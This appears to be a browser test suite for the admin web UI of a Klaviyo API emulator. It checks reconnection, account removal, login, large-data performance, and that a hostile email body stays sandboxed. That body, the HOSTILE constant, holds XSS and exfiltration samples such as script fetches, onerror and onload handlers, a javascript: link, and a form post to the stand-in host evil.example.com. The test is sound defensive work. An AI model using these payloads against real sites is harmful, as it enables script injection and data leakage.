import type { Page } from 'playwright-core'
import { describe, expect, it } from 'vitest'
import { type EmulatorAccount, startEmulator } from '../../../src/index.js'
import { hasNoBrowser, useBrowser } from '../../support/browser.js'

const browser = useBrowser()

/** A part by its `data-test`. */
const part = (page: Page, name: string, rest = '') => page.locator(`[data-test="${name}"]${rest}`)

/** Waits for a page of the UI and its data. */
const ready = (page: Page, name: string) =>
  page.locator(`main[data-page="${name}"][data-ready="true"]`).waitFor()

/** Waits until the connection of a page is in a state. */
const live = (page: Page, state: string) => part(page, 'live', `[data-state="${state}"]`).waitFor()

/** Sends a request to the admin API of an account. */
async function admin({ url, companyId }: EmulatorAccount, method: string, path: string, body?: object) {
  const response = await fetch(`${url}/__admin${path}`, {
    method,
    headers: { 'x-klaviyo-emulator-account': companyId, 'content-type': 'application/json' },
    ...(body && { body: JSON.stringify(body) }),
  })
  return (await response.json()) as { readonly id: string }
}

/** HTML that tries to run scripts, to leave its frame, to send data, and to load from elsewhere. */
const HOSTILE = `<base href="https://evil.example.com/" target="_top">
<link rel="preconnect" href="https://evil.example.com"><link rel="dns-prefetch" href="//evil.example.com">
<meta http-equiv="refresh" content="0;url=https://evil.example.com/refresh">
<p style="background: url(https://evil.example.com/inline.png)">Hello</p>
<script>top.document.title = 'hacked'; fetch('https://evil.example.com/script')</script>
<script type="module" src="https://evil.example.com/module.js"></script>
<img src="x:" onerror="parent.document.title = 'hacked'">
<img src="relative.png"><img src="//evil.example.com/no-scheme.gif">
<img src="https://evil.example.com/pixel.gif" srcset="https://evil.example.com/2.gif 2x">
<svg onload="parent.document.title = 'hacked'"><image href="https://evil.example.com/svg.png"/>
<use href="https://evil.example.com/use.svg#a"/><script>top.document.title = 'hacked'</script></svg>
<iframe src="https://evil.example.com/frame"></iframe><iframe srcdoc="<script>top.document.title = 'hacked'</script>"></iframe>
<object data="https://evil.example.com/object"></object><embed src="https://evil.example.com/embed">
<video autoplay poster="https://evil.example.com/poster.png" src="https://evil.example.com/video.mp4"></video>
<link rel="stylesheet" href="https://evil.example.com/style.css">
<style>@import 'https://evil.example.com/import.css'; @font-face { font-family: x; src: url(https://evil.example.com/x.woff) }
p { font-family: x; cursor: url(https://evil.example.com/cursor.png), auto }</style>
<form action="https://evil.example.com/form" method="post"><button id="send">Send</button></form>
<a id="script" href="javascript:top.document.title='hacked'">Script</a>
<a id="top" target="_top" href="https://evil.example.com/top">Top</a>`

describe.skipIf(hasNoBrowser)('the web UI in trouble', () => {
  it('says that the emulator was stopped, and shows the new state when it is started again', async () => {
    const first = await startEmulator({ port: 0 })
    const { page } = await browser.openPage()
    await page.goto(`${first.url}/__admin/ui/profiles`)
    await ready(page, 'profiles')
    await live(page, 'on')
    await first.close()
    await live(page, 'lost')
    await part(page, 'lost').waitFor()
    await part(page, 'nav-clock').click()
    await part(page, 'error').first().waitFor()
    await using second = await startEmulator({ port: Number(new URL(first.url).port) })
    await (await second.defaultAccount()).seed({ version: 1, profiles: [{ email: 'ada@example.com' }] })
    await ready(page, 'clock')
    await live(page, 'on')
    await part(page, 'lost').waitFor({ state: 'detached' })
    expect(await part(page, 'error').count()).toBe(0)
  })

  it('says that the shown account was removed, and leads to another', async () => {
    await using emulator = await startEmulator({ port: 0 })
    const account = await emulator.account()
    await account.seed({ version: 1, profiles: [{ email: 'ada@example.com' }] })
    const { page } = await browser.openPage()
    await page.goto(`${emulator.url}/__admin/ui/profiles?account=${account.companyId}`)
    await part(page, 'profile-row').waitFor()
    await live(page, 'on')
    await account.remove()
    const notice = part(page, 'account-gone')
    await notice.waitFor()
    await notice.locator('a').click()
    await ready(page, 'overview')
    await part(page, 'account-gone').waitFor({ state: 'detached' })
    expect(new URL(page.url()).searchParams.get('account')).toBeNull()
    await live(page, 'on')
  })

  it('shows in one tab what was changed in another, and nothing of other accounts', async () => {
    await using emulator = await startEmulator({ port: 0 })
    const account = await emulator.account()
    const other = await emulator.account()
    const list = { id: '' }
    const { page, context } = await browser.openPage()
    const second = await context.newPage()
    await account.seed({ version: 1, lists: [{ name: 'VIP' }] })
    for (const each of [page, second]) {
      await each.goto(`${emulator.url}/__admin/ui/explore/list?account=${account.companyId}`)
      await live(each, 'on')
    }
    const row = (each: Page) => part(each, 'row').filter({ hasText: 'VIP' })
    await row(page).locator('a').first().click()
    await part(page, 'row-detail').waitFor()
    list.id = (await part(page, 'row-detail').getAttribute('data-id')) ?? ''
    await row(second).locator('a').first().click()
    await part(second, 'row-delete').click()
    await part(second, 'confirm').click()
    await row(page).waitFor({ state: 'detached' })
    await part(page, 'row-detail').getByRole('alert').filter({ hasText: list.id }).waitFor()

    await page.goto(`${emulator.url}/__admin/ui/requests?account=${account.companyId}`)
    await live(page, 'on')
    await page.keyboard.press('p')
    await other.fetch('/api/profiles')
    await account.fetch('/api/lists')
    await part(page, 'arrivals').getByText('1 new request').waitFor()
  })

  it('asks for the admin key, and again when the session has ended; under a prefix of its own', async () => {
    await using emulator = await startEmulator({ port: 0, adminKey: 'a-long-admin-key', adminPrefix: '/ops' })
    const { page, context } = await browser.openPage()
    await page.goto(`${emulator.url}/ops/ui/coupons`)
    const key = page.getByLabel('Key')
    await key.fill('wrong')
    await key.press('Enter')
    await page.getByText('does not accept this key').waitFor()
    await key.fill('a-long-admin-key')
    await key.press('Enter')
    await ready(page, 'coupons')
    await live(page, 'on')
    await part(page, 'nav-requests').click()
    await ready(page, 'requests')
    expect(new URL(page.url()).pathname).toBe('/ops/ui/requests')
    await context.clearCookies()
    await part(page, 'nav-lists').click()
    await key.fill('a-long-admin-key')
    await key.press('Enter')
    await ready(page, 'lists')
    expect(new URL(page.url()).pathname).toBe('/ops/ui/lists')
  })
})

describe.skipIf(hasNoBrowser)('large data in the web UI', () => {
  it('costs no more for 100,000 rows than for a hundred', async () => {
    await using emulator = await startEmulator({ port: 0 })
    await (await emulator.defaultAccount()).seed({
      version: 1,
      coupons: [{ external_id: 'MANY' }],
      coupon_codes: [{ coupon: 'MANY', unique_code: 'C{{n:6}}', count: 100_000 }],
      lists: [{ name: 'L{{n}}', count: 100 }],
    })
    const { page } = await browser.openPage()
    const timeOf = async (type: string) => {
      await page.goto(`${emulator.url}/__admin/ui/explore/${type}`)
      await part(page, 'row').nth(49).waitFor()
      return page.evaluate<number>('performance.now()')
    }
    await timeOf('list')
    const few = Math.min(await timeOf('list'), await timeOf('list'))
    const many = Math.min(await timeOf('coupon-code'), await timeOf('coupon-code'))
    expect(many).toBeLessThan(few * 3 + 200)
    await part(page, 'total').getByText('100,000').waitFor()
    await part(page, 'page-next').click()
    await page.waitForURL('**cursor=**')
    await part(page, 'row').nth(49).waitFor()
  }, 180_000)

  it('shows a body of 5 MB without standing still', async () => {
    await using emulator = await startEmulator({ port: 0 })
    const properties = Object.fromEntries(
      Array.from({ length: 40_000 }, (_, at) => [`property ${at}`, 'x'.repeat(100)]),
    )
    const body = JSON.stringify({ data: { type: 'profile', attributes: { email: 7, properties } } })
    expect(body.length).toBeGreaterThan(4_500_000)
    const account = await emulator.defaultAccount()
    const headers = { revision: '2026-07-15', 'content-type': 'application/json' }
    const { page } = await browser.openPage()
    for (const [at, each] of [body, 'y'.repeat(body.length)].entries()) {
      await account.fetch('/api/profiles', { method: 'POST', headers, body: each })
      await page.goto(`${emulator.url}/__admin/ui/requests/${at + 1}`)
      await part(page, 'why-issue').first().waitFor()
      await part(page, 'tab-request').click()
      await page.locator('pre.code').waitFor()
      expect(await page.locator('pre.code .line').count()).toBeLessThanOrEqual(1_000)
      await part(page, 'tab-code').click()
      await page.getByLabel('The request in curl').waitFor()
      expect((await page.locator('main').innerText()).length).toBeLessThan(300_000)
    }
  })
})

describe.skipIf(hasNoBrowser)('hostile HTML of a message', () => {
  it('runs nothing, loads nothing, and stays in its frame', async () => {
    await using emulator = await startEmulator({ port: 0 })
    const account = await emulator.account()
    await account.seed({ version: 1, profiles: [{ email: 'ada@example.com' }] })
    const message = { profile: 'ada@example.com', subject: '<b>Hello</b>', html: HOSTILE }
    const { id } = await admin(account, 'POST', '/messages', message)
    const { page, context, outside, errors } = await browser.openPage()
    await page.goto(`${account.url}/__admin/ui/outbox/${id}?account=${account.companyId}`)
    const frame = page.frameLocator('[data-test="outbox-frame"]')
    await frame.getByText('Hello').waitFor()
    expect(await page.locator('article.detail h2').innerText()).toBe('<b>Hello</b>')
    for (const link of ['#send', '#top', '#script']) await frame.locator(link).click({ noWaitAfter: true })
    for (const tab of ['tab-text', 'tab-source', 'tab-headers', 'tab-links'])
      if ((await part(page, tab).count()) > 0) await part(page, tab).click()
    await part(page, 'outbox-link').first().waitFor()
    expect(await page.title()).toContain('Outbox')
    expect(page.url()).toContain(`/outbox/${id}`)
    expect(context.pages()).toHaveLength(1)
    expect(outside).toEqual([])
    const refused =
      /Content Security Policy|sandboxed|ERR_UNKNOWN_URL_SCHEME|not allowed|Blocked|Unsafe attempt/
    expect(errors.filter((error) => !refused.test(error))).toEqual([])
  })
})
